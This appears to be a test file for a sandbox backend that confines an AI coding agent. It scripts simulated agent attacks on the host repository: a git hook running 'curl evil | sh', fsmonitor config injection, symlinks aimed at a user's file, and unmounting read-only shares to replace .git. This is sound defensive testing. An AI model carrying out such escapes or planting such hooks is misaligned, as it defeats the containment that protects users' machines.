import { execFileSync } from "node:child_process";
import { existsSync, lstatSync, mkdtempSync, readFileSync, readlinkSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { basename, dirname, join } from "node:path";
import { captureStdio, createTestContext, testSpec } from "@claude-bottle/core/testing";
import { attempt, busyboxAgent, busyboxGitContext, buildTestRegistryImage } from "@claude-bottle/test-support";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createSmolmachinesBackend } from "../src/backend.js";
import { engine, invocations, SMOLVM_DOUBLE, useDoubleState, testSlug } from "./support.js";

const git = (cwd: string, ...args: string[]) =>
  execFileSync("git", ["-c", "user.name=Test", "-c", "user.email=test@example.com", ...args], { cwd, encoding: "utf8" });

const ATTACK = [
  attempt("agent file", "mkdir -p /workspace/.claude-bottle/agents && echo 'image: evil' > /workspace/.claude-bottle/agents/claude.yaml"),
  attempt("hook", "echo 'curl evil | sh' > /workspace/.git/hooks/pre-commit"),
  attempt("config append", "echo '[core] fsmonitor = evil' >> /workspace/.git/config"),
  attempt("commit", "cd /workspace && echo work > work.txt && git add work.txt && git -c user.name=Agent -c user.email=agent@example.com commit -q -m 'agent work'"),
].join("; ");

/**
 * SECURITY.md point 1 through the smolvm double. smolvm shares directories
 * only (virtiofs), so `.claude-bottle` and the hooks are read-only shares,
 * while `.git/config`, a single file, is put back when the bottle ends and
 * the user is told (SMOLVM.md, "Volumes").
 */
describe("a bottle is a one-way door (smolmachines)", () => {
  let backend: ReturnType<typeof createSmolmachinesBackend>;
  let cacheDir: string;
  let state: string;
  const warnings: string[] = [];
  const context = () =>
    createTestContext({ cacheDir, logger: { debug() {}, info() {}, warn: (message) => warnings.push(message) } });
  const repository = () => {
    const workspace = mkdtempSync(join(tmpdir(), "smol-door-workspace-"));
    git(workspace, "init", "-q");
    writeFileSync(join(workspace, "README"), "hello\n");
    git(workspace, "add", "README");
    git(workspace, "commit", "-q", "-m", "initial");
    return workspace;
  };
  const gitContext = busyboxGitContext();
  const agent = (workspace: string, script = ATTACK) => busyboxAgent({ slug: testSlug("smol-door"), workspace, command: ["sh", "-c"], args: [script] }, gitContext);
  /** A file of the user's outside the workspace, beside it (so that `../../<name>` from `.git` reaches it on the host). */
  const victimOf = (workspace: string) => {
    const victim = join(dirname(workspace), `${basename(workspace)}-bashrc`);
    writeFileSync(victim, "user's own\n");
    return victim;
  };

  beforeAll(async () => {
    await engine();
    state = useDoubleState();
    cacheDir = mkdtempSync(join(tmpdir(), "smol-door-cache-"));
    backend = createSmolmachinesBackend({ smolvm: SMOLVM_DOUBLE, registryImage: buildTestRegistryImage(), dockerDesktop: false });
  });

  afterAll(async () => {
    for (const bottle of await backend.list!(context())) await backend.remove!(bottle.name, { force: true }, context());
  });

  it("refuses writes to .claude-bottle and the hooks, puts git config back, and commits still land", async () => {
    const workspace = repository();
    const configBefore = readFileSync(join(workspace, ".git", "config"), "utf8");
    const io = captureStdio();
    const prepared = await backend.prepare(testSpec(agent(workspace)), context());
    const launched = await backend.launch(prepared, { extraArgs: [], detach: false, stdio: io.stdio }, context());
    expect(launched).toMatchObject({ detached: false, exitCode: 0 });
    expect(io.stdout().trim().split("\n")).toEqual(["agent file: refused", "hook: refused", "config append: written", "commit: written"]);

    expect(existsSync(join(workspace, ".claude-bottle", "agents"))).toBe(false);
    expect(existsSync(join(workspace, ".git", "hooks", "pre-commit"))).toBe(false);
    expect(readFileSync(join(workspace, ".git", "config"), "utf8")).toBe(configBefore);
    expect(readFileSync(join(workspace, ".git", "config.changed-in-bottle"), "utf8")).toContain("fsmonitor = evil");
    expect(warnings.join("\n")).toContain(`the bottle changed ${join(workspace, ".git", "config")}`);
    expect(git(workspace, "log", "--format=%s")).toBe("agent work\ninitial\n");

    const run = invocations(state).findLast((argv) => argv[0] === "machine" && argv[1] === "run")!;
    expect(run).toEqual(expect.arrayContaining(["-v", `${join(workspace, ".claude-bottle")}:/workspace/.claude-bottle:ro`]));
    expect(run).toEqual(expect.arrayContaining(["-v", `${join(workspace, ".git", "hooks")}:/workspace/.git/hooks:ro`]));
    expect(run).toContain("--mem");
  });

  it("puts guarded files back without writing through the links the bottle planted beside them (absolute and relative)", async () => {
    const workspace = repository();
    const victim = victimOf(workspace);
    const configBefore = readFileSync(join(workspace, ".git", "config"), "utf8");
    const script = [
      attempt("config append", "echo '[core] fsmonitor = evil' >> /workspace/.git/config"),
      attempt("absolute link", `ln -s ${victim} /workspace/.git/config.changed-in-bottle`),
      attempt("commondir", "echo /tmp > /workspace/.git/commondir"),
      attempt("relative link", `ln -s ../../${basename(victim)} /workspace/.git/commondir.changed-in-bottle`),
    ].join("; ");
    const io = captureStdio();
    warnings.length = 0;
    const prepared = await backend.prepare(testSpec(agent(workspace, script)), context());
    await backend.launch(prepared, { extraArgs: [], detach: false, stdio: io.stdio }, context());
    expect(io.stdout().trim().split("\n")).toEqual(["config append: written", "absolute link: written", "commondir: written", "relative link: written"]);

    expect(readFileSync(victim, "utf8")).toBe("user's own\n");
    expect(readFileSync(join(workspace, ".git", "config"), "utf8")).toBe(configBefore);
    expect(readFileSync(join(workspace, ".git", "commondir"), "utf8")).toBe(".\n");
    expect(readlinkSync(join(workspace, ".git", "config.changed-in-bottle"))).toBe(victim);
    expect(readFileSync(join(workspace, ".git", "config.changed-in-bottle.2"), "utf8")).toContain("fsmonitor = evil");
    expect(readFileSync(join(workspace, ".git", "commondir.changed-in-bottle.2"), "utf8")).toBe("/tmp\n");
    expect(warnings.join("\n")).toContain(`the bottle's version is in ${join(workspace, ".git", "config.changed-in-bottle.2")}`);
    rmSync(victim);
  });

  it("moves a link put in place of git config aside, never writing through it", async () => {
    const workspace = repository();
    const victim = victimOf(workspace);
    const configBefore = readFileSync(join(workspace, ".git", "config"), "utf8");
    const script = attempt("config replaced by a link", `rm /workspace/.git/config && ln -s ${victim} /workspace/.git/config`);
    const io = captureStdio();
    const prepared = await backend.prepare(testSpec(agent(workspace, script)), context());
    await backend.launch(prepared, { extraArgs: [], detach: false, stdio: io.stdio }, context());
    expect(io.stdout().trim()).toBe("config replaced by a link: written");

    expect(readFileSync(victim, "utf8")).toBe("user's own\n");
    expect(lstatSync(join(workspace, ".git", "config")).isFile()).toBe(true);
    expect(readFileSync(join(workspace, ".git", "config"), "utf8")).toBe(configBefore);
    expect(readlinkSync(join(workspace, ".git", "config.changed-in-bottle"))).toBe(victim);
    rmSync(victim);
  });

  it("pins .git like docker: it cannot be moved away, replaced by a file, or have a copy moved over it", async () => {
    const workspace = repository();
    const script = [
      attempt("git dir moved away", "mv /workspace/.git /workspace/.git.orig && mkdir /workspace/.git && echo '[core] fsmonitor = evil' > /workspace/.git/config"),
      attempt("git dir replaced by a file", "mv /workspace/.git /workspace/.git.orig; echo 'gitdir: /workspace/.evil' > /workspace/.git"),
      attempt("copy moved over the git dir", "mkdir -p /tmp/g && cp -a /workspace/.git/. /tmp/g/ && mv -T /tmp/g /workspace/.git"),
      attempt("agents dir moved away", "mv /workspace/.claude-bottle /workspace/.cb.orig && mkdir -p /workspace/.claude-bottle/agents"),
      attempt("commit", "cd /workspace && echo work > work.txt && git add work.txt && git -c user.name=Agent -c user.email=agent@example.com commit -q -m 'agent work'"),
    ].join("; ");
    const io = captureStdio();
    const prepared = await backend.prepare(testSpec(agent(workspace, script)), context());
    await backend.launch(prepared, { extraArgs: [], detach: false, stdio: io.stdio }, context());
    expect(io.stdout().trim().split("\n")).toEqual([
      "git dir moved away: refused",
      "git dir replaced by a file: refused",
      "copy moved over the git dir: refused",
      "agents dir moved away: refused",
      "commit: written",
    ]);
    expect(existsSync(join(workspace, ".git.orig"))).toBe(false);
    expect(git(workspace, "log", "--format=%s")).toBe("agent work\ninitial\n");
    const run = invocations(state).findLast((argv) => argv[0] === "machine" && argv[1] === "run")!;
    const volumes = run.flatMap((arg, i) => (run[i - 1] === "-v" ? [arg] : []));
    // The pin lies between the workspace and the read-only shares in it: smolvm mounts in the order given.
    expect(volumes).toEqual([
      `${workspace}:/workspace`,
      `${join(workspace, ".git")}:/workspace/.git`,
      `${join(workspace, ".claude-bottle")}:/workspace/.claude-bottle:ro`,
      `${join(workspace, ".git", "hooks")}:/workspace/.git/hooks:ro`,
    ]);
  });

  it("as the guest's root, past the pins: what the bottle put in place of .git and .claude-bottle is moved aside and the originals brought back", async () => {
    const workspace = repository();
    const configBefore = readFileSync(join(workspace, ".git", "config"), "utf8");
    const script = [
      attempt("unmount the shares", "umount /workspace/.git/hooks && umount /workspace/.git && umount /workspace/.claude-bottle"),
      attempt("git dir moved away", "mv /workspace/.git /workspace/.git.orig && mkdir /workspace/.git && echo '[core] fsmonitor = evil' > /workspace/.git/config"),
      attempt("agents dir replaced", "mv /workspace/.claude-bottle /workspace/.cb.orig && mkdir -p /workspace/.claude-bottle/agents && echo 'image: evil' > /workspace/.claude-bottle/agents/claude.yaml"),
    ].join("; ");
    const io = captureStdio();
    warnings.length = 0;
    const prepared = await backend.prepare(testSpec(agent(workspace, script)), context());
    await backend.launch(prepared, { extraArgs: [], detach: false, stdio: io.stdio }, context());
    // The double's guest is root with the host's capabilities: it shows what a guest root could do.
    expect(io.stdout().trim().split("\n")).toEqual(["unmount the shares: written", "git dir moved away: written", "agents dir replaced: written"]);

    expect(readFileSync(join(workspace, ".git", "config"), "utf8")).toBe(configBefore);
    expect(git(workspace, "log", "--format=%s")).toBe("initial\n");
    expect(existsSync(join(workspace, ".git.orig"))).toBe(false);
    expect(readFileSync(join(workspace, ".git.from-bottle", "config"), "utf8")).toContain("fsmonitor = evil");
    expect(existsSync(join(workspace, ".claude-bottle", "agents"))).toBe(false);
    expect(existsSync(join(workspace, ".cb.orig"))).toBe(false);
    expect(existsSync(join(workspace, ".claude-bottle.from-bottle", "agents", "claude.yaml"))).toBe(true);
    const told = warnings.join("\n");
    expect(told).toContain(`the bottle moved or replaced ${join(workspace, ".git")}`);
    expect(told).toContain(`the original was brought back from ${join(workspace, ".git.orig")}`);
    expect(told).toContain(`the bottle moved or replaced ${join(workspace, ".claude-bottle")}`);
  });

  it("puts a detached bottle's git config back when it is stopped", async () => {
    const workspace = repository();
    const configBefore = readFileSync(join(workspace, ".git", "config"), "utf8");
    warnings.length = 0;
    const prepared = await backend.prepare(testSpec(agent(workspace)), context());
    const launched = await backend.launch(prepared, { extraArgs: [], detach: true, stdio: captureStdio().stdio }, context());
    const deadline = Date.now() + 60_000;
    while (!readFileSync(join(workspace, ".git", "config"), "utf8").includes("fsmonitor") && Date.now() < deadline) {
      await new Promise((resolve) => setTimeout(resolve, 200));
    }
    await backend.stop!(launched.name, {}, context());
    expect(readFileSync(join(workspace, ".git", "config"), "utf8")).toBe(configBefore);
    expect(warnings.join("\n")).toContain("was put back");
    await backend.remove!(launched.name, { force: true }, context());
  });
});
